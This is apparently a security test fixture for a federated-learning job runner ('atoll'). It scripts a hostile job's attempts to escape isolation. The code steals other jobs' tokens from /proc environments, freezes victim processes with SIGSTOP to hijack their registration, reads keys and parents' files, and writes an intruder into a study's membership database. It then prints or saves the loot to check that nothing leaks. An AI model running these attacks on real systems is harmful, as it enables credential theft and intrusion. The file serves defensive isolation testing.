"""What a hostile job tries from inside its worker (issue #19): the same attacks run from its site
script (train.py) and from its server-side code (model.py, ``server.initial_model``).

The test copies this folder into the job's app with ``targets.json``: paths and pids of the
local federation, which a real attacker would guess (pids are small numbers, kits have fixed
layouts). Each attempt is recorded as it went and never raises: ``run`` writes
``attacks-<side>.json`` into the worker's run folder, where the test reads it and asserts per
attack. What an attempt got is also exfiltrated the way a job can: printed to the worker's log,
written to the results (server) and raised as the site's failure reason, so the test can check
that nothing secret reaches ``atoll job logs``, ``status`` or ``download``.

On a machine shared with other engineers, /proc is searched for this federation's processes
only (a command line or environment naming its folder), and environments are kept without the
variables the test runner itself has (its host's noise, perhaps its own credentials).
"""

from __future__ import annotations

import base64
import contextlib
import hashlib
import json
import os
import signal
import sqlite3
import stat
import sys
import time
from functools import partial
from pathlib import Path

TARGETS = json.loads(Path(__file__).with_name("targets.json").read_text())
FED_ROOT = TARGETS["fed_root"]
CAP = 64 * 1024  # bytes kept of one attempt's loot
PRINTED = 2048  # bytes of each loot printed to the log
STOP_FILE, POLL_S = "stop", 0.05


class Record:
    """Every attempt of one side: attack -> [{target, ok, size/error, data}]."""

    def __init__(self, side: str):
        self.side = side
        self.attacks: dict[str, list[dict]] = {}
        self.loot: list[tuple[str, str, bytes]] = []

    def attempt(self, attack: str, target: object, action, loot: bool = True) -> dict:
        entry: dict = {"target": str(target)}
        try:
            got = action()
        except Exception as exc:  # every failure is the attempt's outcome
            entry.update(ok=False, error=f"{type(exc).__name__}: {exc}"[:300])
        else:
            data = got.encode() if isinstance(got, str) else bytes(got or b"")
            entry.update(ok=True, size=len(data), data=base64.b64encode(data[:CAP]).decode())
            if data and loot:
                self.loot.append((attack, str(target), data[:CAP]))
        self.attacks.setdefault(attack, []).append(entry)
        return entry

    def dump(self) -> dict:
        return {"side": self.side, "job_id": os.environ.get("ATOLL_JOB_ID", ""),
                "attacks": self.attacks}


def read(path: str) -> bytes:
    fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    try:
        if not stat.S_ISREG(os.fstat(fd).st_mode) and not path.startswith("/proc/"):
            raise OSError(f"{path} is not a regular file")
        return os.read(fd, CAP)
    finally:
        os.close(fd)


def open_for_writing(path: str) -> bytes:
    """Write access without changing a byte (a key must still work for the next test)."""
    os.close(os.open(path, os.O_WRONLY | os.O_APPEND))  # never O_CREAT: no file of our own
    return b"opened for writing"


def append(path: str, text: str) -> bytes:
    fd = os.open(path, os.O_WRONLY | os.O_APPEND)
    try:
        os.write(fd, text.encode())
    finally:
        os.close(fd)
    return b"appended"


def listing(path: str) -> bytes:
    return "\n".join(sorted(os.listdir(path))).encode() or b"(empty)"


def environ_of(raw: bytes) -> dict[str, str]:
    pairs = (item.split(b"=", 1) for item in raw.split(b"\0") if b"=" in item)
    return {k.decode(errors="replace"): v.decode(errors="replace") for k, v in pairs}


def kept_environ(raw: bytes) -> bytes:
    """An environment without the test runner's own variables: what the federation added."""
    noise = set(TARGETS["runner_env"])
    return b"\0".join(item for item in raw.split(b"\0")
                      if item and item.split(b"=", 1)[0].decode(errors="replace") not in noise)


def read_environ(path: str) -> bytes:
    return kept_environ(read(path)) or b"(only the runner's variables)"


def federation_pids() -> list[tuple[int, bytes, bytes]]:
    """(pid, environ, cmdline) of this federation's processes this process can see."""
    found, marker = [], FED_ROOT.encode()
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        try:
            environ = read(f"/proc/{entry}/environ")
        except OSError:
            environ = b""
        try:
            cmdline = read(f"/proc/{entry}/cmdline")
        except OSError:
            cmdline = b""
        if marker in environ or marker in cmdline:
            found.append((int(entry), environ, cmdline))
    return found


# -- the race for another job's one-time token --------------------------------------------------

def register(env: dict[str, str]) -> bytes:
    """Register with another job's parent as that job's worker, with its token."""
    from atoll.wire import messages as msg
    from atoll.wire import rpc
    from atoll.wire.worker_link import worker_channel

    channel = worker_channel(env["ATOLL_PARENT"], env.get("ATOLL_PARENT_CERT"))
    try:
        answer = rpc.stub(channel, "WorkerLink").Register(
            msg.Json(body=json.dumps({"job_id": env["ATOLL_JOB_ID"],
                                      "token": env["ATOLL_JOB_TOKEN"]})), timeout=10)
    finally:
        channel.close()
    return answer.body.encode()


def steal(rec: Record, pid: int, env: dict[str, str]) -> None:
    """Freeze the victim so that it cannot register first, register with its token, thaw it."""
    target = f"job {env['ATOLL_JOB_ID']} pid {pid}"
    rec.attempt("foreign_token", target, lambda: env["ATOLL_JOB_TOKEN"])
    stopped = rec.attempt("stop_victim", target, partial(os.kill, pid, signal.SIGSTOP))["ok"]
    try:
        rec.attempt("register_foreign", target, partial(register, env))
    finally:
        if stopped:
            with contextlib.suppress(OSError):
                os.kill(pid, signal.SIGCONT)


def hunt(rec: Record, run_dir: Path) -> None:
    """Until the test says stop: look for another job's worker and take its token."""
    own_job = os.environ.get("ATOLL_JOB_ID", "")
    (run_dir / f"hunting-{rec.side}").write_text(str(os.getpid()))
    deadline, tried, passes = time.monotonic() + TARGETS["hunt_s"], set(), 0
    while time.monotonic() < deadline and not (run_dir / STOP_FILE).exists():
        passes += 1
        for pid, raw, _ in federation_pids():
            env = environ_of(raw)
            job, token = env.get("ATOLL_JOB_ID"), env.get("ATOLL_JOB_TOKEN")
            if token and job != own_job and (job, token) not in tried:
                tried.add((job, token))
                steal(rec, pid, env)
        time.sleep(POLL_S)
    rec.attempt("hunt_passes", "/proc", lambda: str(passes), loot=False)


# -- everything else in reach -------------------------------------------------------------------

def attack_parents(rec: Record) -> None:
    for role, pid in sorted(TARGETS["parents"].items()):
        rec.attempt("parent_environ", f"{role} /proc/{pid}/environ",
                    partial(read_environ, f"/proc/{pid}/environ"))
        rec.attempt("parent_signal", f"{role} pid {pid} (signal 0)", partial(os.kill, pid, 0))
        rec.attempt("parent_files", f"{role} /proc/{pid}/fd", partial(listing, f"/proc/{pid}/fd"))
        with contextlib.suppress(OSError):
            for fd in os.listdir(f"/proc/{pid}/fd"):
                link = os.readlink(f"/proc/{pid}/fd/{fd}")
                if link.startswith("/") and not link.startswith(("/dev/", "/proc/")):
                    rec.attempt("parent_files", f"{role} fd {fd} -> {link}",
                                partial(read, f"/proc/{pid}/fd/{fd}"))
        for path in (*TARGETS["keys"], TARGETS["store"]):  # through the parent's own root
            rec.attempt("parent_files", f"{role} /proc/{pid}/root{path}",
                        partial(read, f"/proc/{pid}/root{path}"))
        rec.attempt("parent_files", f"{role} /proc/{pid}/cwd",
                    partial(listing, f"/proc/{pid}/cwd"))


def attack_processes(rec: Record) -> None:
    """Every other process of this federation: environments (secrets, tokens), command lines."""
    for pid, environ, cmdline in federation_pids():
        if environ:
            rec.attempt("proc_environ", f"/proc/{pid}/environ", partial(kept_environ, environ))
        if cmdline:
            rec.attempt("proc_environ", f"/proc/{pid}/cmdline", lambda c=cmdline: c)


def attack_keys(rec: Record) -> None:
    keys = set(TARGETS["keys"])
    for base, _, files in os.walk(FED_ROOT):  # and whatever else looks like a key
        keys.update(os.path.join(base, f) for f in files if f.endswith(".key"))
    for path in sorted(keys):
        rec.attempt("keys_read", path, partial(read, path))
    for path in TARGETS["keys"]:
        rec.attempt("keys_write", path, partial(open_for_writing, path))


def attack_local_files(rec: Record) -> None:
    for path in TARGETS["local_files"]:
        rec.attempt("local_read", path, partial(read, path))
    rec.attempt("local_write", TARGETS["study_runtime"],
                partial(append, TARGETS["study_runtime"], "# a job of beta was here\n"))


def attack_datasets(rec: Record) -> None:
    for folder in TARGETS["victim_datasets"]:
        rec.attempt("victim_dataset", folder, partial(listing, folder))
        with contextlib.suppress(OSError):
            for name in os.listdir(folder):
                rec.attempt("victim_dataset", f"{folder}/{name}", partial(read, f"{folder}/{name}"))
    for path in TARGETS["victim_data_files"]:
        rec.attempt("victim_dataset", path, partial(read, path))
    # The control: the study's own datasets are there (the site only: the server maps none).
    for name, path in sorted(json.loads(os.environ.get("ATOLL_DATASETS") or "{}").items()):
        for file in sorted(os.listdir(path)) if os.path.isdir(path) else []:
            rec.attempt("own_dataset", f"{name}: {path}/{file}",
                        partial(read, f"{path}/{file}"), loot=False)


def read_tree(folder: str) -> bytes:
    os.listdir(folder)  # raises when the folder is not there
    out = []
    for base, _, files in os.walk(folder):
        for name in sorted(files):
            path = os.path.join(base, name)
            with contextlib.suppress(OSError):
                out.append(path.encode() + b": " + read(path)[:4096])
            if sum(map(len, out)) > CAP:
                return b"\n".join(out)
    return b"\n".join(out)


def attack_job_folders(rec: Record, victim: str) -> None:
    """The parents' workspaces, every job folder listed there and the victim's by its id."""
    for folder in TARGETS["workspace_dirs"]:
        rec.attempt("workspaces", folder, partial(listing, folder))
    own = os.environ.get("ATOLL_JOB_ID", "")
    for jobs in TARGETS["job_dirs"]:
        names = {victim}
        with contextlib.suppress(OSError):
            names.update(os.listdir(jobs))
        for name in sorted(names - {own, ""}):
            rec.attempt("job_folders", f"{jobs}/{name}", partial(read_tree, f"{jobs}/{name}"))
    for path in TARGETS["victim_job_files"]:
        path = path.replace("{victim}", victim)
        rec.attempt("job_folders", path, partial(read, path))


def attack_store(rec: Record) -> None:
    store = TARGETS["store"]
    for path in (store, store + "-wal"):
        rec.attempt("store_read", path, partial(read, path))

    def join_victim_study() -> bytes:
        db = sqlite3.connect(f"file:{store}?mode=rw", uri=True, timeout=10)
        try:
            db.execute("INSERT OR IGNORE INTO study_members (study, member, kind) "
                       "VALUES (?, ?, 'user')", (TARGETS["victim_study"], TARGETS["intruder"]))
            db.commit()
            members = db.execute("SELECT member FROM study_members WHERE study = ?",
                                 (TARGETS["victim_study"],)).fetchall()
        finally:
            db.close()
        return json.dumps([m[0] for m in members]).encode()

    rec.attempt("store_write", store, join_victim_study)


def attack_own_run_folder(rec: Record, run_dir: Path) -> None:
    """The control: the job's own run folder is there, read-write."""
    probe = run_dir / f"own-{rec.side}.txt"
    rec.attempt("own_run_folder", probe,
                lambda: probe.write_text("mine") and probe.read_bytes(), loot=False)


def exfiltrate(rec: Record) -> None:
    for attack, target, data in rec.loot:
        text = data[:PRINTED].decode("utf-8", "backslashreplace")
        print(f"LOOT {rec.side}.{attack} {target}: {text}", flush=True)


def run(side: str) -> Record:
    """Hunt for another job's token until told to stop, then every other attack; record all."""
    rec, victim = Record(side), ""
    run_dir = Path(os.environ.get("ATOLL_WORKDIR") or Path.cwd().parent)
    attack_own_run_folder(rec, run_dir)
    hunt(rec, run_dir)
    with contextlib.suppress(OSError):  # the test names the victim's job when it says stop
        victim = (run_dir / STOP_FILE).read_text().strip()
    for attack in (attack_parents, attack_processes, attack_keys, attack_local_files,
                   attack_datasets, attack_store):
        attack(rec)
    attack_job_folders(rec, victim)
    rec.attempt("own_secret", "sha256 of API_KEY", lambda: hashlib.sha256(
        os.environ["API_KEY"].encode()).hexdigest(), loot=False)
    (run_dir / f"attacks-{side}.json").write_text(json.dumps(rec.dump()))
    exfiltrate(rec)
    if side == "server":  # into the results too, which `atoll job download` hands out
        results = run_dir / "results"
        with contextlib.suppress(OSError):
            results.mkdir(exist_ok=True)
            (results / "loot.bin").write_bytes(b"\n".join(d for _, _, d in rec.loot))
    for attack, entries in sorted(rec.attacks.items()):
        got = sum(1 for e in entries if e["ok"])
        kind = "CONTROL" if attack.startswith(("own_", "hunt_")) else "ATTACK"
        print(f"{kind} {side}.{attack} {'GOT' if got else 'BLOCKED'} {got} of {len(entries)}",
              flush=True)
    sys.stdout.flush()
    return rec


def raise_with_loot(rec: Record) -> None:
    """The site's last word: its loot as its failure reason, which `atoll job status` shows."""
    if rec.loot:
        raise RuntimeError("exfiltrated: " + " | ".join(
            f"{attack} {target}: {data[:300].decode('utf-8', 'backslashreplace')}"
            for attack, target, data in rec.loot[:6]))
